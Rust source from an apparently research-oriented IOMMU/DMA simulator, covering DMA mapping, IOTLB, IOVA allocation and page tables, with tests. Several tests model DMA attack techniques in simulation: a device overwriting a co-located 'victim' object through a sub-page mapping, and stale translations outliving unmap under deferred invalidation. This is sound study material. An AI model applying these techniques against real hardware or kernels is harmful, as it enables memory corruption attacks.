pub mod iotlb;
pub mod iova;
pub mod pagetable;

pub use dma_api::{dma_map_sg_coalesced, dma_map_single, dma_unmap_single, DmaMapping, SgMapping};
pub use iommu::{FaultRecord, InvalidationMode, Iommu, IommuConfig};
pub use iotlb::Iotlb;
pub use iova::IovaAllocator;
pub use pagetable::IoPageTable;
