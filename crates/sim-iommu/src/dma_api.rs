//! The Linux DMA API surface drivers call (§2.3).
//!
//! `dma_map_single` takes a KVA and a length and returns an IOVA; the
//! driver programs the device with that IOVA and calls `dma_unmap_single`
//! on completion. The API *insinuates* byte-granular ownership transfer,
//! but what actually happens — and what this module faithfully does — is
//! that **every page the buffer touches** is mapped for the device
//! (§9.1's first bullet).

use crate::iommu::Iommu;
use dma_core::addr::pages_spanned;
use dma_core::clock::MAP_PAGE_CYCLES;
use dma_core::trace::DeviceId;
use dma_core::vuln::DmaDirection;
use dma_core::{Event, Iova, KernelLayout, Kva, Result, SimCtx, PAGE_SIZE};

/// A live DMA mapping, as a driver would track it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct DmaMapping {
    /// IOVA of the buffer's first byte (page base + in-page offset).
    pub iova: Iova,
    /// KVA the mapping was created from.
    pub kva: Kva,
    /// Buffer length in bytes.
    pub len: usize,
    /// Transfer direction.
    pub dir: DmaDirection,
    /// Number of pages the mapping spans (the actual exposure).
    pub pages: usize,
    /// Owning device.
    pub device: DeviceId,
}

impl DmaMapping {
    /// IOVA of the first mapped page.
    pub fn iova_page_base(&self) -> Iova {
        self.iova.page_align_down()
    }
}

/// `dma_map_single()`: maps `[kva, kva+len)` for `dev` and returns the
/// IOVA. All pages spanned by the buffer become device-accessible with
/// `dir`'s access right — the sub-page vulnerability in one line.
///
/// # Examples
///
/// ```
/// use dma_core::{SimCtx, vuln::DmaDirection};
/// use sim_iommu::{dma_map_single, dma_unmap_single, Iommu, IommuConfig};
/// use sim_mem::{MemConfig, MemorySystem};
///
/// let mut ctx = SimCtx::new();
/// let mut mem = MemorySystem::new(&MemConfig::default());
/// let mut iommu = Iommu::new(IommuConfig::default());
/// iommu.attach_device(1);
///
/// let buf = mem.kmalloc(&mut ctx, 1500, "rx").unwrap();
/// let m = dma_map_single(&mut ctx, &mut iommu, &mem.layout, 1, buf, 1500,
///                        DmaDirection::FromDevice, "example").unwrap();
/// // The IOVA keeps the buffer's in-page offset (footnote 5 of the paper).
/// assert_eq!(m.iova.page_offset(), buf.page_offset());
/// dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
/// ```
#[allow(clippy::too_many_arguments)]
pub fn dma_map_single(
    ctx: &mut SimCtx,
    iommu: &mut Iommu,
    layout: &KernelLayout,
    dev: DeviceId,
    kva: Kva,
    len: usize,
    dir: DmaDirection,
    site: &'static str,
) -> Result<DmaMapping> {
    // Fault-injection site `sim_iommu.dma_map`: mirrors a dma_map_single
    // failure (-ENOMEM / DMA_MAPPING_ERROR) before any IOVA is handed out.
    if ctx.fault("sim_iommu.dma_map") {
        return Err(dma_core::DmaError::OutOfIova);
    }
    let offset = kva.page_offset();
    let pages = pages_spanned(offset, len).max(1);
    let map_started = ctx.clock.now();
    let base_iova = ctx.prof("iommu.map", |ctx| {
        let base_iova = iommu.alloc_iova(ctx, dev, pages)?;
        let first_pfn = layout.kva_to_pfn(kva.page_align_down())?;
        for i in 0..pages {
            let page_iova = Iova(base_iova.raw() + (i * PAGE_SIZE) as u64);
            iommu.map_page(dev, page_iova, first_pfn.add(i as u64), dir.access_right())?;
            ctx.clock.advance(MAP_PAGE_CYCLES);
        }
        Ok(base_iova)
    })?;
    ctx.metrics.add("sim_iommu.map.pages", pages as u64);
    ctx.metrics
        .observe("sim_iommu.map.cycles", ctx.clock.now() - map_started);
    let iova = Iova(base_iova.raw() + offset as u64);
    ctx.emit(Event::DmaMap {
        at: ctx.clock.now(),
        device: dev,
        iova,
        kva,
        len,
        dir,
        site,
    });
    Ok(DmaMapping {
        iova,
        kva,
        len,
        dir,
        pages,
        device: dev,
    })
}

/// `dma_unmap_single()`: releases a mapping created by
/// [`dma_map_single`]. Whether the device actually loses access right
/// away depends on the IOMMU's invalidation mode (§5.2.1).
pub fn dma_unmap_single(ctx: &mut SimCtx, iommu: &mut Iommu, mapping: &DmaMapping) -> Result<()> {
    let unmap_started = ctx.clock.now();
    ctx.prof("iommu.unmap", |ctx| {
        iommu.unmap_range(ctx, mapping.device, mapping.iova_page_base(), mapping.pages)
    })?;
    ctx.metrics
        .observe("sim_iommu.unmap.cycles", ctx.clock.now() - unmap_started);
    ctx.emit(Event::DmaUnmap {
        at: ctx.clock.now(),
        device: mapping.device,
        iova: mapping.iova,
        len: mapping.len,
    });
    Ok(())
}

/// `dma_map_sg()`: maps a scatter/gather list, returning one mapping per
/// segment (the analogous Linux call coalesces IOVA ranges; per-segment
/// mappings expose the same pages).
pub fn dma_map_sg(
    ctx: &mut SimCtx,
    iommu: &mut Iommu,
    layout: &KernelLayout,
    dev: DeviceId,
    segments: &[(Kva, usize)],
    dir: DmaDirection,
    site: &'static str,
) -> Result<Vec<DmaMapping>> {
    let mut out = Vec::with_capacity(segments.len());
    for &(kva, len) in segments {
        out.push(dma_map_single(
            ctx, iommu, layout, dev, kva, len, dir, site,
        )?);
    }
    Ok(out)
}

/// `dma_unmap_sg()`.
pub fn dma_unmap_sg(ctx: &mut SimCtx, iommu: &mut Iommu, mappings: &[DmaMapping]) -> Result<()> {
    for m in mappings {
        dma_unmap_single(ctx, iommu, m)?;
    }
    Ok(())
}

/// A coalesced scatter/gather mapping: one contiguous IOVA range over
/// physically discontiguous, page-aligned segments.
#[derive(Clone, Debug)]
pub struct SgMapping {
    /// Base IOVA of the contiguous range.
    pub iova: Iova,
    /// Total pages mapped.
    pub pages: usize,
    /// (IOVA, original segment) per segment, in order.
    pub segments: Vec<(Iova, Kva, usize)>,
    /// Owning device.
    pub device: DeviceId,
}

/// `dma_map_sg()` with IOVA coalescing — the IOMMU's *original* purpose
/// (§2.2): "allow devices that did not support vectored I/O to access
/// contiguous virtual memory that may map non-contiguous physical
/// memory". Every segment must be page-aligned (as Linux requires for
/// this optimization); the device sees one linear range.
pub fn dma_map_sg_coalesced(
    ctx: &mut SimCtx,
    iommu: &mut Iommu,
    layout: &KernelLayout,
    dev: DeviceId,
    segments: &[(Kva, usize)],
    dir: DmaDirection,
    site: &'static str,
) -> Result<SgMapping> {
    if segments.is_empty() {
        return Err(dma_core::DmaError::InvalidAlloc(0));
    }
    // Same injection site as dma_map_single: both are `dma_map*` entry
    // points and degrade identically for callers.
    if ctx.fault("sim_iommu.dma_map") {
        return Err(dma_core::DmaError::OutOfIova);
    }
    let mut total_pages = 0usize;
    for &(kva, len) in segments {
        if !kva.is_page_aligned() || len == 0 {
            return Err(dma_core::DmaError::InvalidAlloc(len));
        }
        total_pages += pages_spanned(0, len);
    }
    let map_started = ctx.clock.now();
    let (base, out_segments) = ctx.prof("iommu.map", |ctx| {
        let base = iommu.alloc_iova(ctx, dev, total_pages)?;
        let mut cursor = base;
        let mut out_segments = Vec::with_capacity(segments.len());
        for &(kva, len) in segments {
            let first_pfn = layout.kva_to_pfn(kva)?;
            let npages = pages_spanned(0, len);
            for i in 0..npages {
                iommu.map_page(
                    dev,
                    Iova(cursor.raw() + (i * PAGE_SIZE) as u64),
                    first_pfn.add(i as u64),
                    dir.access_right(),
                )?;
                ctx.clock.advance(MAP_PAGE_CYCLES);
            }
            out_segments.push((cursor, kva, len));
            cursor = Iova(cursor.raw() + (npages * PAGE_SIZE) as u64);
        }
        Ok((base, out_segments))
    })?;
    ctx.metrics.add("sim_iommu.map.pages", total_pages as u64);
    ctx.metrics
        .observe("sim_iommu.map.cycles", ctx.clock.now() - map_started);
    ctx.emit(Event::DmaMap {
        at: ctx.clock.now(),
        device: dev,
        iova: base,
        kva: segments[0].0,
        len: total_pages * PAGE_SIZE,
        dir,
        site,
    });
    Ok(SgMapping {
        iova: base,
        pages: total_pages,
        segments: out_segments,
        device: dev,
    })
}

/// Unmaps a coalesced SG mapping.
pub fn dma_unmap_sg_coalesced(ctx: &mut SimCtx, iommu: &mut Iommu, m: &SgMapping) -> Result<()> {
    ctx.prof("iommu.unmap", |ctx| {
        iommu.unmap_range(ctx, m.device, m.iova, m.pages)
    })?;
    ctx.emit(Event::DmaUnmap {
        at: ctx.clock.now(),
        device: m.device,
        iova: m.iova,
        len: m.pages * PAGE_SIZE,
    });
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::iommu::{InvalidationMode, IommuConfig};
    use dma_core::{AccessRight, DmaError};
    use sim_mem::{MemConfig, MemorySystem};

    fn setup() -> (SimCtx, MemorySystem, Iommu) {
        let ctx = SimCtx::new();
        let mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(1);
        (ctx, mem, iommu)
    }

    #[test]
    fn iova_preserves_page_offset() {
        // Footnote 5: the low 12 bits of the IOVA equal the KVA's.
        let (mut ctx, mut mem, mut iommu) = setup();
        let kva = mem.kmalloc(&mut ctx, 1500, "rx").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            kva,
            1500,
            DmaDirection::FromDevice,
            "t",
        )
        .unwrap();
        assert_eq!(m.iova.page_offset(), kva.page_offset());
    }

    #[test]
    fn sub_page_buffer_exposes_whole_page() {
        // Map 64 bytes; the device can write anywhere on the page,
        // including a co-located neighbour object.
        let (mut ctx, mut mem, mut iommu) = setup();
        let a = mem.kmalloc(&mut ctx, 64, "io").unwrap();
        let b = mem.kmalloc(&mut ctx, 64, "victim").unwrap();
        assert_eq!(a.page_align_down(), b.page_align_down());
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            a,
            64,
            DmaDirection::FromDevice,
            "t",
        )
        .unwrap();
        // Device overwrites the *victim* through the I/O buffer's mapping.
        let delta = b - a;
        let victim_iova = Iova(m.iova.raw() + delta);
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, victim_iova, b"pwn")
            .unwrap();
        let mut buf = [0u8; 3];
        mem.cpu_read(&mut ctx, b, &mut buf, "t").unwrap();
        assert_eq!(&buf, b"pwn");
    }

    #[test]
    fn straddling_buffer_maps_two_pages() {
        let (mut ctx, mut mem, mut iommu) = setup();
        // Craft a buffer near the end of a page with a large kmalloc.
        let base = mem.kmalloc(&mut ctx, 8192, "big").unwrap();
        let kva = Kva(base.raw() + 4000);
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            kva,
            200,
            DmaDirection::ToDevice,
            "t",
        )
        .unwrap();
        assert_eq!(m.pages, 2);
        assert_eq!(iommu.mapped_pages(1), 2);
        dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
        assert_eq!(iommu.mapped_pages(1), 0);
    }

    #[test]
    fn direction_controls_device_rights() {
        let (mut ctx, mut mem, mut iommu) = setup();
        let tx = mem.kmalloc(&mut ctx, 256, "tx").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            tx,
            256,
            DmaDirection::ToDevice,
            "t",
        )
        .unwrap();
        let mut b = [0u8; 8];
        iommu
            .dev_read(&mut ctx, &mem.phys, 1, m.iova, &mut b)
            .unwrap();
        assert!(matches!(
            iommu.dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"x"),
            Err(DmaError::IommuPermission { .. })
        ));
    }

    #[test]
    fn two_mappings_of_one_page_are_both_live() {
        // Type (c) through the DMA API itself: two sub-page buffers on one
        // page, two mappings, two IOVAs → one frame.
        let (mut ctx, mut mem, mut iommu) = setup();
        let a = mem.page_frag_alloc(&mut ctx, 2048, "rx").unwrap();
        let b = mem.page_frag_alloc(&mut ctx, 2048, "rx").unwrap();
        assert_eq!(a.page_align_down(), b.page_align_down());
        let ma = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            a,
            2048,
            DmaDirection::FromDevice,
            "t",
        )
        .unwrap();
        let mb = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            b,
            2048,
            DmaDirection::FromDevice,
            "t",
        )
        .unwrap();
        let pfn = mem.layout.kva_to_pfn(a).unwrap();
        assert_eq!(iommu.iovas_of(1, pfn).len(), 2);
        // Unmap one; the frame is still writable via the other.
        dma_unmap_single(&mut ctx, &mut iommu, &ma).unwrap();
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, mb.iova, b"still")
            .unwrap();
        let _ = AccessRight::Write;
    }

    #[test]
    fn sg_maps_each_segment() {
        let (mut ctx, mut mem, mut iommu) = setup();
        let s1 = mem.kmalloc(&mut ctx, 512, "s1").unwrap();
        let s2 = mem.kmalloc(&mut ctx, 1024, "s2").unwrap();
        let ms = dma_map_sg(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            &[(s1, 512), (s2, 1024)],
            DmaDirection::ToDevice,
            "t",
        )
        .unwrap();
        assert_eq!(ms.len(), 2);
        dma_unmap_sg(&mut ctx, &mut iommu, &ms).unwrap();
        assert_eq!(iommu.mapped_pages(1), 0);
    }

    #[test]
    fn coalesced_sg_is_linear_for_the_device() {
        // §2.2: discontiguous physical pages appear as one contiguous
        // IOVA range.
        let (mut ctx, mut mem, mut iommu) = setup();
        // Two page-aligned buffers far apart physically.
        let p1 = mem.alloc_pages(&mut ctx, 0, "sg1").unwrap();
        let _gap = mem.alloc_pages(&mut ctx, 0, "gap").unwrap();
        let p2 = mem.alloc_pages(&mut ctx, 0, "sg2").unwrap();
        let k1 = mem.layout.pfn_to_kva(p1).unwrap();
        let k2 = mem.layout.pfn_to_kva(p2).unwrap();
        assert_ne!(p1.add(1), p2, "segments must be physically discontiguous");
        mem.cpu_write(&mut ctx, k1, b"first-page....", "t").unwrap();
        mem.cpu_write(&mut ctx, k2, b"second-page...", "t").unwrap();

        let sg = dma_map_sg_coalesced(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            &[(k1, PAGE_SIZE), (k2, PAGE_SIZE)],
            DmaDirection::ToDevice,
            "sg",
        )
        .unwrap();
        assert_eq!(sg.pages, 2);
        // A single linear device read crosses the physical gap invisibly.
        let mut buf = vec![0u8; PAGE_SIZE + 14];
        iommu
            .dev_read(&mut ctx, &mem.phys, 1, sg.iova, &mut buf)
            .unwrap();
        assert_eq!(&buf[..11], b"first-page.");
        assert_eq!(&buf[PAGE_SIZE..PAGE_SIZE + 11], b"second-page");
        dma_unmap_sg_coalesced(&mut ctx, &mut iommu, &sg).unwrap();
        assert_eq!(iommu.mapped_pages(1), 0);
    }

    #[test]
    fn coalesced_sg_rejects_unaligned_segments() {
        let (mut ctx, mut mem, mut iommu) = setup();
        let k = mem.kmalloc(&mut ctx, 100, "x").unwrap();
        let unaligned = Kva(k.raw() | 0x10);
        assert!(dma_map_sg_coalesced(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            &[(unaligned, 64)],
            DmaDirection::ToDevice,
            "sg",
        )
        .is_err());
        assert!(dma_map_sg_coalesced(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            &[],
            DmaDirection::ToDevice,
            "sg",
        )
        .is_err());
    }

    #[test]
    fn map_emits_trace_event() {
        let (_, mut mem, mut iommu) = setup();
        let mut ctx = SimCtx::traced();
        let kva = mem.kmalloc(&mut ctx, 100, "rx").unwrap();
        let _ = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            kva,
            100,
            DmaDirection::FromDevice,
            "my_driver_rx",
        )
        .unwrap();
        assert!(ctx.trace.events().iter().any(|e| matches!(
            e,
            Event::DmaMap {
                site: "my_driver_rx",
                ..
            }
        )));
    }

    #[test]
    fn deferred_flush_retires_the_unmap_in_the_provenance_graph() {
        // §5.2.1 as provenance: under deferred invalidation, the unmap
        // leaves a pending stale translation, and the later periodic
        // global flush must pick up a FlushRetiresUnmap edge to it.
        use dma_core::{EdgeKind, ProvenanceGraph};
        let mut ctx = SimCtx::traced();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Deferred,
            ..Default::default()
        });
        iommu.attach_device(1);

        let kva = mem.kmalloc(&mut ctx, 2048, "rx").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            kva,
            2048,
            DmaDirection::FromDevice,
            "t_map",
        )
        .unwrap();
        dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
        ctx.clock
            .advance(dma_core::clock::DEFERRED_FLUSH_PERIOD + 1);
        iommu.tick(&mut ctx);

        let mut g = ProvenanceGraph::new();
        g.ingest_all(ctx.trace.drain());
        let unmap = (0..g.len())
            .find(|&i| matches!(g.event(i), Event::DmaUnmap { .. }))
            .expect("unmap ingested");
        let flush = (0..g.len())
            .find(|&i| matches!(g.event(i), Event::IotlbGlobalFlush { .. }))
            .expect("deferred mode must emit the periodic global flush");
        assert!(
            g.parents(unmap)
                .iter()
                .any(|&(_, k)| k == EdgeKind::UnmapOfMap),
            "{:?}",
            g.parents(unmap)
        );
        assert!(
            g.parents(flush)
                .contains(&(unmap, EdgeKind::FlushRetiresUnmap)),
            "{:?}",
            g.parents(flush)
        );
    }
}
