//! The IOTLB: a cache of recent translations.
//!
//! The IOMMU does not keep the IOTLB coherent with the page tables; the
//! OS must invalidate explicitly (§5.2.1). In *deferred* mode, unmapped
//! translations linger here — marked stale for telemetry but served
//! exactly like live ones — until the periodic global flush.

use dma_core::trace::DeviceId;
use dma_core::{AccessRight, Iova, Pfn};
use std::collections::{HashMap, VecDeque};

/// A cached translation.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct IotlbEntry {
    /// Cached target frame.
    pub pfn: Pfn,
    /// Cached rights.
    pub right: AccessRight,
    /// `true` once the OS unmapped the IOVA but the entry has not been
    /// invalidated yet (the deferred window).
    pub stale: bool,
}

/// The translation cache, shared by all domains (tagged by device).
#[derive(Clone, Debug)]
pub struct Iotlb {
    entries: HashMap<(DeviceId, u64), IotlbEntry>,
    /// FIFO of insertion order for capacity eviction.
    order: VecDeque<(DeviceId, u64)>,
    capacity: usize,
}

impl Iotlb {
    /// Creates a cache holding up to `capacity` translations.
    pub fn new(capacity: usize) -> Self {
        Iotlb {
            entries: HashMap::new(),
            order: VecDeque::new(),
            capacity: capacity.max(1),
        }
    }

    /// Looks up the translation for the page containing `iova`.
    pub fn lookup(&self, dev: DeviceId, iova: Iova) -> Option<IotlbEntry> {
        self.entries
            .get(&(dev, iova.page_align_down().raw()))
            .copied()
    }

    /// Inserts a translation after a successful page-table walk.
    pub fn fill(&mut self, dev: DeviceId, iova: Iova, pfn: Pfn, right: AccessRight) {
        let key = (dev, iova.page_align_down().raw());
        if self.entries.len() >= self.capacity && !self.entries.contains_key(&key) {
            // FIFO eviction; skip keys already removed by invalidation.
            while let Some(old) = self.order.pop_front() {
                if self.entries.remove(&old).is_some() {
                    break;
                }
            }
        }
        if self
            .entries
            .insert(
                key,
                IotlbEntry {
                    pfn,
                    right,
                    stale: false,
                },
            )
            .is_none()
        {
            self.order.push_back(key);
        }
    }

    /// Drops one translation immediately (strict-mode invalidation).
    ///
    /// Returns `true` if an entry was present.
    pub fn invalidate(&mut self, dev: DeviceId, iova: Iova) -> bool {
        self.entries
            .remove(&(dev, iova.page_align_down().raw()))
            .is_some()
    }

    /// Marks a translation stale (deferred-mode unmap): the entry keeps
    /// serving accesses until the global flush.
    pub fn mark_stale(&mut self, dev: DeviceId, iova: Iova) {
        if let Some(e) = self.entries.get_mut(&(dev, iova.page_align_down().raw())) {
            e.stale = true;
        }
    }

    /// Drops everything (the periodic global flush). Returns how many
    /// stale entries were dropped.
    pub fn global_flush(&mut self) -> usize {
        let stale = self.entries.values().filter(|e| e.stale).count();
        self.entries.clear();
        self.order.clear();
        stale
    }

    /// Number of cached translations.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// `true` if the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Number of currently stale entries.
    pub fn stale_count(&self) -> usize {
        self.entries.values().filter(|e| e.stale).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fill_and_lookup_by_page() {
        let mut t = Iotlb::new(16);
        t.fill(1, Iova(0x12345), Pfn(9), AccessRight::Write);
        let e = t.lookup(1, Iova(0x12fff)).unwrap();
        assert_eq!(e.pfn, Pfn(9));
        assert!(!e.stale);
        assert!(t.lookup(2, Iova(0x12345)).is_none(), "tagged by device");
        assert!(t.lookup(1, Iova(0x13000)).is_none(), "different page");
    }

    #[test]
    fn invalidate_removes() {
        let mut t = Iotlb::new(16);
        t.fill(1, Iova(0x1000), Pfn(1), AccessRight::Read);
        assert!(t.invalidate(1, Iova(0x1000)));
        assert!(!t.invalidate(1, Iova(0x1000)));
        assert!(t.lookup(1, Iova(0x1000)).is_none());
    }

    #[test]
    fn stale_entries_survive_until_global_flush() {
        // Figure 6: after a deferred unmap the translation still answers.
        let mut t = Iotlb::new(16);
        t.fill(1, Iova(0x1000), Pfn(1), AccessRight::Write);
        t.mark_stale(1, Iova(0x1000));
        let e = t.lookup(1, Iova(0x1000)).unwrap();
        assert!(e.stale);
        assert_eq!(e.pfn, Pfn(1));
        assert_eq!(t.stale_count(), 1);
        assert_eq!(t.global_flush(), 1);
        assert!(t.lookup(1, Iova(0x1000)).is_none());
        assert!(t.is_empty());
    }

    #[test]
    fn capacity_eviction_is_fifo() {
        let mut t = Iotlb::new(2);
        t.fill(1, Iova(0x1000), Pfn(1), AccessRight::Read);
        t.fill(1, Iova(0x2000), Pfn(2), AccessRight::Read);
        t.fill(1, Iova(0x3000), Pfn(3), AccessRight::Read);
        assert!(t.lookup(1, Iova(0x1000)).is_none(), "oldest evicted");
        assert!(t.lookup(1, Iova(0x2000)).is_some());
        assert!(t.lookup(1, Iova(0x3000)).is_some());
        assert_eq!(t.len(), 2);
    }

    #[test]
    fn refill_updates_in_place() {
        let mut t = Iotlb::new(4);
        t.fill(1, Iova(0x1000), Pfn(1), AccessRight::Read);
        t.fill(1, Iova(0x1000), Pfn(2), AccessRight::Write);
        let e = t.lookup(1, Iova(0x1000)).unwrap();
        assert_eq!(e.pfn, Pfn(2));
        assert_eq!(e.right, AccessRight::Write);
        assert_eq!(t.len(), 1);
    }
}
