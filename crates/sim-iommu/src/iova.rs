//! The per-domain IOVA allocator.
//!
//! Linux's `iova` rbtree allocator hands out ranges top-down from the end
//! of the device's addressable space and caches freed ranges per size for
//! fast reuse. We model exactly that: a descending bump pointer plus
//! per-size free stacks. The reuse behaviour matters: after a deferred
//! flush, recycled IOVAs are handed to new mappings, which is why stale
//! IOTLB entries are dangerous.

#[cfg(test)]
use dma_core::PAGE_SIZE;
use dma_core::{DmaError, Iova, Result, PAGE_SHIFT};
use std::collections::HashMap;

/// Top of the default 32-bit IOVA window Linux prefers for legacy reasons.
pub const DEFAULT_IOVA_TOP: u64 = 1 << 32;
/// Bottom of the allocatable window (never hand out IOVA 0).
pub const DEFAULT_IOVA_BOTTOM: u64 = 1 << 20;

/// Allocates page-granular IOVA ranges for one domain.
#[derive(Clone, Debug)]
pub struct IovaAllocator {
    /// Next (exclusive) top for fresh descending allocations.
    cursor: u64,
    bottom: u64,
    /// Freed ranges by page count, reused LIFO.
    free: HashMap<usize, Vec<u64>>,
    /// Ranges currently held: base → page count.
    live: HashMap<u64, usize>,
}

impl Default for IovaAllocator {
    fn default() -> Self {
        Self::new()
    }
}

impl IovaAllocator {
    /// Creates an allocator over the default window.
    pub fn new() -> Self {
        IovaAllocator {
            cursor: DEFAULT_IOVA_TOP,
            bottom: DEFAULT_IOVA_BOTTOM,
            free: HashMap::new(),
            live: HashMap::new(),
        }
    }

    /// Allocates `pages` contiguous IOVA pages, returning the base.
    pub fn alloc(&mut self, pages: usize) -> Result<Iova> {
        if pages == 0 {
            return Err(DmaError::InvalidAlloc(0));
        }
        if let Some(base) = self.free.get_mut(&pages).and_then(|v| v.pop()) {
            self.live.insert(base, pages);
            return Ok(Iova(base));
        }
        let span = (pages as u64) << PAGE_SHIFT;
        let base = self
            .cursor
            .checked_sub(span)
            .filter(|&b| b >= self.bottom)
            .ok_or(DmaError::OutOfIova)?;
        self.cursor = base;
        self.live.insert(base, pages);
        Ok(Iova(base))
    }

    /// Returns a range for reuse. `base` must be a value returned by
    /// [`Self::alloc`] that is still live.
    pub fn free(&mut self, base: Iova, pages: usize) -> Result<()> {
        match self.live.remove(&base.raw()) {
            Some(n) if n == pages => {
                self.free.entry(pages).or_default().push(base.raw());
                Ok(())
            }
            Some(n) => {
                // Size mismatch: restore and report.
                self.live.insert(base.raw(), n);
                Err(DmaError::BadFree(base.raw()))
            }
            None => Err(DmaError::BadFree(base.raw())),
        }
    }

    /// Number of live ranges.
    pub fn live_ranges(&self) -> usize {
        self.live.len()
    }

    /// `true` if `base` is a live range returned by [`Self::alloc`].
    pub fn is_live(&self, base: Iova) -> bool {
        self.live.contains_key(&base.raw())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allocations_descend_and_are_page_aligned() {
        let mut a = IovaAllocator::new();
        let x = a.alloc(1).unwrap();
        let y = a.alloc(2).unwrap();
        assert!(y < x);
        assert_eq!(x - y, 2 * PAGE_SIZE as u64);
        assert!(x.is_page_aligned());
        assert!(y.is_page_aligned());
    }

    #[test]
    fn freed_range_is_reused_for_same_size() {
        let mut a = IovaAllocator::new();
        let x = a.alloc(3).unwrap();
        a.free(x, 3).unwrap();
        let y = a.alloc(3).unwrap();
        assert_eq!(x, y);
    }

    #[test]
    fn freed_range_not_reused_for_other_size() {
        let mut a = IovaAllocator::new();
        let x = a.alloc(3).unwrap();
        a.free(x, 3).unwrap();
        let y = a.alloc(2).unwrap();
        assert_ne!(x, y);
    }

    #[test]
    fn bad_frees_rejected() {
        let mut a = IovaAllocator::new();
        let x = a.alloc(2).unwrap();
        assert!(a.free(Iova(x.raw() + PAGE_SIZE as u64), 2).is_err());
        assert!(a.free(x, 1).is_err());
        a.free(x, 2).unwrap();
        assert!(a.free(x, 2).is_err());
    }

    #[test]
    fn exhaustion_reported() {
        let mut a = IovaAllocator::new();
        // Drain the whole window in 1 GiB chunks (2^18 pages each).
        let mut n = 0;
        loop {
            match a.alloc(1 << 18) {
                Ok(_) => n += 1,
                Err(DmaError::OutOfIova) => break,
                Err(e) => panic!("unexpected {e}"),
            }
        }
        assert!(n >= 3, "window should fit a few GiB-sized ranges, got {n}");
        assert!(a.alloc(1 << 18).is_err());
        // Small allocations may still fail too once the cursor is pinned.
        let small = a.alloc(1);
        if let Ok(_small) = small {
            // Acceptable: tail space below the last GiB chunk.
        }
    }

    #[test]
    fn zero_pages_rejected() {
        let mut a = IovaAllocator::new();
        assert!(a.alloc(0).is_err());
    }
}
