//! A 4-level radix I/O page table, structurally like VT-d second-level
//! translation: 9 bits per level, 4 KiB leaves, per-leaf access rights.

use dma_core::{AccessRight, DmaError, Iova, Pfn, Result, PAGE_SHIFT};

const LEVEL_BITS: u32 = 9;
const FANOUT: usize = 1 << LEVEL_BITS;
/// Number of translation levels (48-bit IOVA space).
pub const LEVELS: u32 = 4;

/// A leaf translation: frame plus rights.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct IoPte {
    /// Target frame.
    pub pfn: Pfn,
    /// Rights recorded for the mapping.
    pub right: AccessRight,
}

#[derive(Clone)]
enum Node {
    Table(Box<[Option<Node>; FANOUT]>),
    Leaf(IoPte),
}

impl Node {
    fn new_table() -> Node {
        Node::Table(Box::new(std::array::from_fn(|_| None)))
    }
}

impl std::fmt::Debug for Node {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Node::Table(_) => write!(f, "Table"),
            Node::Leaf(pte) => write!(f, "Leaf({pte:?})"),
        }
    }
}

/// The page table of one IOMMU domain.
#[derive(Clone, Debug, Default)]
pub struct IoPageTable {
    root: Option<Node>,
    mapped_pages: usize,
}

fn index(iova: Iova, level: u32) -> usize {
    ((iova.raw() >> (PAGE_SHIFT + LEVEL_BITS * level)) & (FANOUT as u64 - 1)) as usize
}

impl IoPageTable {
    /// Creates an empty table.
    pub fn new() -> Self {
        IoPageTable::default()
    }

    /// Number of currently mapped pages.
    pub fn mapped_pages(&self) -> usize {
        self.mapped_pages
    }

    /// Installs a translation for the page containing `iova`.
    ///
    /// Fails with [`DmaError::AlreadyMapped`] if the page already has one
    /// (Linux never silently overwrites a live IOVA mapping).
    pub fn map(&mut self, iova: Iova, pfn: Pfn, right: AccessRight) -> Result<()> {
        let iova = iova.page_align_down();
        let mut node = self.root.get_or_insert_with(Node::new_table);
        for level in (1..LEVELS).rev() {
            let idx = index(iova, level);
            let Node::Table(slots) = node else {
                return Err(DmaError::Invariant("leaf at interior level"));
            };
            node = slots[idx].get_or_insert_with(Node::new_table);
        }
        let Node::Table(slots) = node else {
            return Err(DmaError::Invariant("leaf at interior level"));
        };
        let slot = &mut slots[index(iova, 0)];
        if slot.is_some() {
            return Err(DmaError::AlreadyMapped(iova.raw()));
        }
        *slot = Some(Node::Leaf(IoPte { pfn, right }));
        self.mapped_pages += 1;
        Ok(())
    }

    /// Removes the translation for the page containing `iova`, returning
    /// the old entry.
    pub fn unmap(&mut self, iova: Iova) -> Result<IoPte> {
        let iova = iova.page_align_down();
        let mut node = match &mut self.root {
            Some(n) => n,
            None => return Err(DmaError::NotMapped(iova.raw())),
        };
        for level in (1..LEVELS).rev() {
            let idx = index(iova, level);
            let Node::Table(slots) = node else {
                return Err(DmaError::Invariant("leaf at interior level"));
            };
